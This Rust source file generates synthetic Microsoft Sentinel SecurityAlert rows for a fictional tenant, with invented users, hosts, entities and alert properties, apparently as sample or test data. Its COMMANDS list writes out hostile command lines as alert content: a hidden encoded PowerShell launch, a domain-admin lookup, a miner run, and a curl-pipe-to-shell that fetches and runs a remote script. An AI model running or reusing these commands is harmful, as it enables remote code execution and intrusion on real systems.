//! One row of the sample's SecurityAlert.

use rand::Rng;

use crate::types::ticks;

use super::detections::{About, DEFENDER_FOR_CLOUD, Detection, NRT, PRODUCTS, Product, SENTINEL};
use super::document::Json::{self, Bool, List, Null, Object, Text};
use super::document::list;
use super::{Made, Options, Rows, chance};

/// Purposes that a row needs numbers of chance for.
const CONTENT: u64 = 0;
const ORDER: u64 = 1;
const CONSTANTS: u64 = 2;

pub(super) const DOMAIN: &str = "harbor.example";
const PEOPLE: [&str; 16] = [
    "amira.haddad",
    "ben.okafor",
    "chloe.martin",
    "dmitri.volkov",
    "elena.rossi",
    "farid.nasser",
    "grace.lindqvist",
    "hiro.tanaka",
    "ines.alvarez",
    "jonas.müller",
    "kofi.mensah",
    "lena.novak",
    "marta.silva",
    "noah.weiss",
    "svc-backup",
    "svc-deploy",
];
const COUNTRIES: [(&str, &str); 5] =
    [("DE", "Berlin"), ("US", "Seattle"), ("BR", "São Paulo"), ("JP", "Osaka"), ("", "")];
const COMMANDS: [(&str, &str, &str); 5] = [
    ("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
    ("cmd.exe", "c:\\windows\\system32", "cmd.exe /c \"whoami & net group \\\"domain admins\\\"\""),
    ("rundll32.exe", "c:\\windows\\system32", "rundll32.exe c:\\users\\public\\part.dll,Run"),
    ("miner", "/tmp/.cache", "/tmp/.cache/miner -o pool.invalid:3333 --threads 4"),
    ("curl", "/usr/bin", "curl -s http://203.0.113.77/a.sh | sh"),
];

/// An alert as one row tells it.
pub(super) struct Alert {
    pub(super) product: &'static Product,
    pub(super) detection: &'static Detection,
    pub(super) id: String,
    vendor_id: String,
    /// When this version was recorded.
    pub(super) generated: i64,
    pub(super) start: i64,
    pub(super) end: i64,
    processed: i64,
    status: &'static str,
    pub(super) rule: String,
    workspace: String,
    pub(super) subscription: String,
    person: &'static str,
    host: String,
    address: String,
    place: (&'static str, &'static str),
    command: (&'static str, &'static str, &'static str),
    resource: String,
    count: u32,
    confidence: Option<f64>,
}

impl Alert {
    /// Makes the alert of a row: a new one, or a later version of an earlier row's.
    pub(super) fn of_row(options: &Options, row: u64) -> Alert {
        let first = first_row(options, row);
        let mut alert = Alert::first(options, first);
        if first != row {
            alert.generated = moment(options, row);
            alert.status = ["Resolved", "InProgress", "Dismissed"][chance(options, row, ORDER).random_range(0..3)];
        }
        alert
    }

    /// Makes the first version of the alert that a row begins.
    pub(super) fn first(options: &Options, row: u64) -> Alert {
        let mut dice = chance(options, row, CONTENT);
        let (product, detection, index) = choose(dice.random_range(0..100), dice.random_range(0..1000));
        let generated = moment(options, row);
        let processed = generated - dice.random_range(400_000..60_000_000);
        let end = processed - dice.random_range(60..1800) * ticks::TICKS_PER_SECOND;
        let start = end - dice.random_range(0..3_600_000) * ticks::TICKS_PER_MILLISECOND;
        let (vendor_guid, id) = (guid(&mut dice), guid(&mut dice));
        let mut fixed = chance(options, 0, CONSTANTS);
        let (workspace, subscription) = (guid(&mut fixed), guid(&mut fixed));
        let rule = guid(&mut chance(options, 1 + index, CONSTANTS));
        let person = PEOPLE[dice.random_range(0..PEOPLE.len())];
        // A few machines are hit far more often than others.
        let number = dice.random_range(0..40u32) * dice.random_range(0..40u32) / 40;
        let host = if number % 3 == 0 { format!("srv-{number:02}") } else { format!("ws-{number:03}") };
        let net = ["192.0.2", "198.51.100", "203.0.113"][dice.random_range(0..3)];
        let address = format!("{net}.{}", dice.random_range(1..255));
        let group = ["rg-web", "RG-DATA", "rg-identity"][dice.random_range(0..3)];
        let resource = match detection.about {
            About::Resource => format!("Microsoft.Storage/storageAccounts/harbor{}", number % 7),
            About::Cluster => "Microsoft.ContainerService/managedClusters/aks-harbor".to_string(),
            _ => format!("Microsoft.Compute/virtualMachines/{host}"),
        };
        let vendor_id = match product.name {
            DEFENDER_FOR_CLOUD => format!("{}_{vendor_guid}", ticks::MAX_DATETIME - processed),
            "Microsoft Defender Advanced Threat Protection" => format!("{vendor_guid}_1"),
            SENTINEL => id.clone(),
            _ => vendor_guid,
        };
        Alert {
            product,
            detection,
            id,
            vendor_id,
            generated,
            start,
            end,
            processed,
            status: "New",
            rule,
            workspace,
            resource: format!("/subscriptions/{subscription}/resourceGroups/{group}/providers/{resource}"),
            subscription,
            person,
            host,
            address,
            place: COUNTRIES[dice.random_range(0..COUNTRIES.len())],
            command: COMMANDS[dice.random_range(0..COMMANDS.len())],
            count: dice.random_range(1..40),
            confidence: dice.random_bool(0.1).then(|| f64::from(dice.random_range(1..=10u32)) / 10.0),
        }
    }

    /// Returns the workspace.
    pub(super) fn tenant(&self) -> &str {
        &self.workspace
    }

    /// Tells whether an analytics rule made the alert.
    pub(super) fn is_of_rule(&self) -> bool {
        self.product.name == SENTINEL
    }

    pub(super) fn append(&self, rows: &mut Rows) {
        rows.add(|column| self.value(column));
    }

    fn value(&self, column: &str) -> Made<'_> {
        let detection = self.detection;
        let on_azure = self.product.name == DEFENDER_FOR_CLOUD;
        match column {
            "TenantId" => self.workspace.as_str().into(),
            "TimeGenerated" => Made::Moment(self.generated),
            "DisplayName" | "AlertName" => detection.name.into(),
            "AlertSeverity" => detection.severity.into(),
            "Description" => detection.description.into(),
            "ProviderName" => self.product.provider.into(),
            "VendorName" => "Microsoft".into(),
            "VendorOriginalId" => self.vendor_id.as_str().into(),
            "SystemAlertId" => self.id.as_str().into(),
            "ResourceId" if on_azure => self.resource.as_str().into(),
            "AlertType" if self.is_of_rule() => format!("{}_{}", self.workspace, self.rule).into(),
            "AlertType" => detection.kind.into(),
            "ConfidenceLevel" if self.confidence.is_some() => "Unknown".into(),
            "ConfidenceScore" => self.confidence.map_or(Made::Nothing, Made::Real),
            "IsIncident" => Made::Bool(false),
            "StartTime" => Made::Moment(self.start),
            "EndTime" => Made::Moment(self.end),
            "ProcessingEndTime" => Made::Moment(self.processed),
            "RemediationSteps" if !self.is_of_rule() => list(&[
                &format!("Find out whether {} knows of it.", self.person),
                "Keep the machine off the network until then.",
            ])
            .into(),
            "ExtendedProperties" => self.extended().into(),
            "Entities" => self.entities().into(),
            "SourceSystem" => "Detection".into(),
            "WorkspaceSubscriptionId" => self.subscription.as_str().into(),
            "WorkspaceResourceGroup" => "rg-security".into(),
            "ExtendedLinks" if on_azure => List(&[Object(&[
                ("Href", Text("https://alerts.harbor.example/help")),
                ("Category", Null),
                ("Label", Text("More about it")),
                ("Type", Text("webLink")),
            ])])
            .text()
            .into(),
            "ProductName" => self.product.name.into(),
            "ProductComponentName" => detection.component.into(),
            "AlertLink" if !self.is_of_rule() => {
                format!("https://alerts.harbor.example/alert/{}", self.vendor_id).into()
            }
            "Status" => self.status.into(),
            "CompromisedEntity" if !self.is_of_rule() => self.compromised().into(),
            "Tactics" => detection.tactics.into(),
            "Techniques" if !detection.techniques.is_empty() => list(detection.techniques).into(),
            "SubTechniques" if !detection.sub_techniques.is_empty() => list(detection.sub_techniques).into(),
            "Type" => "SecurityAlert".into(),
            _ => Made::Nothing,
        }
    }

    fn compromised(&self) -> String {
        match self.detection.about {
            About::Logon | About::Mail => format!("{}@{DOMAIN}", self.person),
            About::Resource | About::Cluster => self.resource.rsplit('/').next().unwrap_or_default().to_string(),
            About::Process | About::File => self.host.clone(),
        }
    }

    /// What the product adds; every value is text, as in real records.
    fn extended(&self) -> String {
        let moment = |at: i64| ticks::format_datetime(at)[..19].replace('T', " ") + "Z";
        let (image, folder, command) = self.command;
        let count = self.count.to_string();
        let fields: &[(&str, &str)] = match (self.product.provider, self.detection.about) {
            (provider, _) if self.is_of_rule() => &[
                ("Query Period", if provider == NRT { "00:01:00" } else { "05:00:00" }),
                ("Trigger Operator", "GreaterThan"),
                ("Trigger Threshold", "0"),
                ("Correlation Id", &self.id),
                ("Search Query Results Overall Count", &count),
                ("Data Sources", "[\"SigninLogs\"]"),
                ("Query", &format!("SigninLogs\n| where UserPrincipalName == \"{}@{DOMAIN}\"", self.person)),
                ("Query Start Time UTC", &moment(self.start)),
                ("Query End Time UTC", &moment(self.end)),
                ("Analytic Rule Ids", &list(&[&self.rule])),
                ("Event Grouping", "SingleAlert"),
                ("Analytic Rule Name", self.detection.name),
                ("ProcessedBySentinel", "True"),
                ("Alert generation status", "Full alert created"),
                ("Custom Details", &self.details(&count)),
            ],
            (_, About::Process) => &[
                ("resourceType", "Virtual Machine"),
                ("Compromised Host", &self.host.to_uppercase()),
                ("User Name", &format!("HARBOR\\{}", self.person)),
                ("Suspicious Process", &format!("{folder}{}{image}", if folder.starts_with('/') { "/" } else { "\\" })),
                ("Suspicious Command Line", command),
                ("Suspicious Process Id", &self.process_id()),
                ("ProcessedBySentinel", "True"),
                ("Alert generation status", "Full alert created"),
            ],
            (_, About::Logon) => &[
                ("Client IP Address", &self.address),
                ("Client Location", self.place.1),
                ("User Account", &self.upn()),
                ("Request Id", &self.id),
                ("Failed Attempts", &count),
                ("ProcessedBySentinel", "True"),
                ("Alert generation status", "Full alert created"),
            ],
            _ => &[
                ("resourceType", self.resource.split('/').nth(6).unwrap_or_default()),
                ("Effective Subscription ID", &self.subscription),
                ("IP Address", &self.address),
                ("Count", &count),
                ("ProcessedBySentinel", "True"),
                ("Alert generation status", "Full alert created"),
            ],
        };
        Object(&fields.iter().map(|(key, text)| (*key, Text(text))).collect::<Vec<_>>()).text()
    }

    fn details(&self, count: &str) -> String {
        Object(&[("Attempts", List(&[Text(count)])), ("Account", List(&[Text(self.person)]))]).text()
    }

    fn process_id(&self) -> String {
        format!("0x{:x}", 0x400 + self.count * 12)
    }

    fn upn(&self) -> String {
        format!("{}@{DOMAIN}", self.person)
    }

    fn entities(&self) -> String {
        const HOST: Json<'_> = Object(&[("$ref", Text("3"))]);
        const ACCOUNT: Json<'_> = Object(&[("$ref", Text("4"))]);
        let name = self.host.to_uppercase();
        let host = Object(&[
            ("$id", Text("3")),
            ("HostName", Text(&self.host)),
            ("DnsDomain", Text(DOMAIN)),
            ("NetBiosName", Text(&name)),
            ("OSFamily", Text(if self.command.1.starts_with('/') { "Linux" } else { "Windows" })),
            ("IsDomainJoined", Bool(true)),
            ("Type", Text("host")),
        ]);
        let account = Object(&[
            ("$id", Text("4")),
            ("Name", Text(self.person)),
            ("UPNSuffix", Text(DOMAIN)),
            ("NTDomain", Text("HARBOR")),
            ("IsDomainJoined", Bool(true)),
            ("Host", HOST),
            ("Type", Text("account")),
        ]);
        let person = Object(&[
            ("$id", Text("4")),
            ("Name", Text(self.person)),
            ("UPNSuffix", Text(DOMAIN)),
            ("Type", Text("account")),
        ]);
        let (country, city) = self.place;
        let place = Object(&[("CountryCode", Text(country)), ("City", Text(city))]);
        let (id, address, kind) = (("$id", Text("5")), ("Address", Text(&self.address)), ("Type", Text("ip")));
        let address = match country {
            "" => Object(&[id, address, kind]),
            _ => Object(&[id, address, ("Location", place), kind]),
        };
        let (image, folder, command) = self.command;
        match self.detection.about {
            About::Process => List(&[
                host,
                account,
                Object(&[
                    ("$id", Text("7")),
                    ("ProcessId", Text(&self.process_id())),
                    ("CommandLine", Text(command)),
                    ("CreationTimeUtc", Text(&ticks::format_datetime(self.start))),
                    (
                        "ImageFile",
                        Object(&[
                            ("$id", Text("6")),
                            ("Directory", Text(folder)),
                            ("Name", Text(image)),
                            ("Type", Text("file")),
                        ]),
                    ),
                    ("Account", ACCOUNT),
                    ("Host", HOST),
                    ("Type", Text("process")),
                ]),
                // The image is met within the process first, and listed by reference.
                Object(&[("$ref", Text("6"))]),
            ])
            .text(),
            About::Logon => List(&[person, address]).text(),
            About::Mail => List(&[
                person,
                Object(&[
                    ("$id", Text("6")),
                    ("MailboxPrimaryAddress", Text(&self.upn())),
                    ("Upn", Text(&self.upn())),
                    ("Type", Text("mailbox")),
                ]),
                Object(&[
                    ("$id", Text("7")),
                    ("Url", Text(&format!("https://login.invalid/{}", self.count))),
                    ("Type", Text("url")),
                ]),
            ])
            .text(),
            About::File => List(&[
                host,
                Object(&[
                    ("$id", Text("6")),
                    ("Directory", Text("c:\\users\\public\\downloads")),
                    ("Name", Text(&format!("invoice-{}.zip", self.count))),
                    ("Host", HOST),
                    (
                        "FileHashes",
                        List(&[Object(&[
                            ("$id", Text("8")),
                            ("Algorithm", Text("SHA256")),
                            ("Value", Text(&format!("{:064x}", u128::from(self.count) * 0x9e37_79b9_7f4a_7c15))),
                            ("Type", Text("filehash")),
                        ])]),
                    ),
                    ("Type", Text("file")),
                ]),
                Object(&[("$ref", Text("8"))]),
            ])
            .text(),
            About::Resource => List(&[
                Object(&[("$id", Text("3")), ("ResourceId", Text(&self.resource)), ("Type", Text("azure-resource"))]),
                address,
                person,
            ])
            .text(),
            About::Cluster => List(&[
                Object(&[
                    ("$id", Text("3")),
                    (
                        "CloudResource",
                        Object(&[
                            ("$id", Text("4")),
                            ("ResourceId", Text(&self.resource)),
                            ("Type", Text("azure-resource")),
                        ]),
                    ),
                    ("Type", Text("K8s-cluster")),
                ]),
                Object(&[
                    ("$id", Text("5")),
                    ("Name", Text("payments")),
                    ("Cluster", HOST),
                    ("Type", Text("K8s-namespace")),
                ]),
                Object(&[
                    ("$id", Text("6")),
                    ("Name", Text(&format!("worker-{}", self.count))),
                    ("Namespace", Object(&[("$ref", Text("5"))])),
                    ("Type", Text("K8s-pod")),
                ]),
                ACCOUNT,
            ])
            .text(),
        }
    }
}

/// Returns the row that begins the alert of a row: about one in eight is a later version of an alert shortly before.
/// Analytics rules never change their alerts.
pub(super) fn first_row(options: &Options, row: u64) -> u64 {
    let mut dice = chance(options, row, ORDER + 8);
    if row == 0 || !dice.random_bool(0.14) {
        return row;
    }
    let before = row - 1 - dice.random_range(0..row.min(40));
    let begins = !chance(options, before, ORDER + 8).random_bool(0.14) || before == 0;
    let mut content = chance(options, before, CONTENT);
    let (product, ..) = choose(content.random_range(0..100), content.random_range(0..1000));
    if begins && product.name != SENTINEL { before } else { row }
}

/// Returns the moment of a row: in order, and spread evenly with some chance.
fn moment(options: &Options, row: u64) -> i64 {
    let span = i64::from(options.days) * ticks::TICKS_PER_DAY;
    let rows = i128::from(options.rows.max(1));
    let part = (i128::from(span) * i128::from(row)) / rows;
    let step = (i128::from(span) / rows).max(1);
    let jitter = i128::from(chance(options, row, ORDER).random_range(0..i64::try_from(step).unwrap_or(i64::MAX)));
    options.end - span + i64::try_from(part + jitter).unwrap_or_default()
}

/// Picks a product and a detection; the number tells detections apart.
fn choose(percent: u32, pick: usize) -> (&'static Product, &'static Detection, u64) {
    let mut left = percent;
    let mut before = 0;
    for product in PRODUCTS {
        if left < product.share {
            // The first detections are the most frequent ones.
            let index = (pick * pick / 1000) * product.detections.len() / 1000;
            return (product, &product.detections[index], (before + index) as u64);
        }
        left -= product.share;
        before += product.detections.len();
    }
    (&PRODUCTS[0], &PRODUCTS[0].detections[0], 0)
}

pub(super) fn guid(dice: &mut impl Rng) -> String {
    uuid::Builder::from_random_bytes(dice.random()).into_uuid().hyphenated().to_string()
}

/// Returns the id of the rule that makes incidents of Defender for Cloud's alerts.
pub(super) fn default_rule(options: &Options) -> String {
    guid(&mut chance(options, u64::MAX, CONSTANTS))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shares_make_a_hundred() {
        assert_eq!(PRODUCTS.iter().map(|product| product.share).sum::<u32>(), 100);
    }

    #[test]
    fn every_detection_can_be_picked() {
        let picked = |percent: u32| (0..1000).map(move |pick| choose(percent, pick).2);
        let all: std::collections::HashSet<u64> = (0..100).flat_map(picked).collect();
        assert_eq!(all.len(), PRODUCTS.iter().map(|product| product.detections.len()).sum::<usize>());
    }
}
